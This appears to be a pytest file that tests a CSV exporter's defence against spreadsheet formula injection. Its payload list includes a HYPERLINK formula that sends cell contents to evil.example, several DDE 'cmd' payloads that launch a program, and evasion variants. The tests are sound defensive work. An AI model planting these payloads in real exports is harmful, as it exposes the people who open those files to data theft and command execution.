"""No text in a CSV of ours is calculated by the spreadsheet that opens it, and none is written anywhere else."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from insights.viewer.csv_file import as_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '"=1+1',
    "a,=1+1",
    "a\r\n=1+1",
]


def would_be_calculated(cell: str) -> bool:
    """Whether a spreadsheet reads this cell as a formula: what begins so and is no number."""
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?(e-?[0-9]+)?", cell):
        return False
    return cell.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20") if cell.strip() else cell[:1] in ("\t", "\r", "\n")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_stays_a_text_that_can_be_read(formula: str) -> None:
    header, row = read(as_csv([formula, "n"], [[formula, 1]]))
    for cell in (header[0], row[0]):
        assert not would_be_calculated(cell)
        assert cell.endswith(formula)


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_no_text_becomes_a_formula_or_another_cell(rows: list[list[str]]) -> None:
    found = read(as_csv(["a", "b"], rows))[1:]
    assert [len(row) for row in found] == [2] * len(rows)
    for row, wanted in zip(found, rows, strict=True):
        for cell, text in zip(row, wanted, strict=True):
            assert cell in (text, f"'{text}")
            assert not would_be_calculated(cell)


def test_a_number_below_nothing_stays_a_number() -> None:
    assert read(as_csv(["change"], [[-0.25], [-3]]))[1:] == [["-0.25"], ["-3"]]


def test_nothing_else_writes_such_files(repository: Path) -> None:
    writes = re.compile(r"\bcsv\.(?:writer|DictWriter)|text/csv|import csv\b")
    found = {
        str(path.relative_to(repository))
        for floor in ("insights", "flows", "adapters")
        for path in (repository / floor).rglob("*.py")
        if writes.search(path.read_text())
    }
    # Those two read files that others wrote.
    assert found - {"insights/replay/formats.py", "insights/audit/exports.py"} == {"insights/viewer/csv_file.py"}
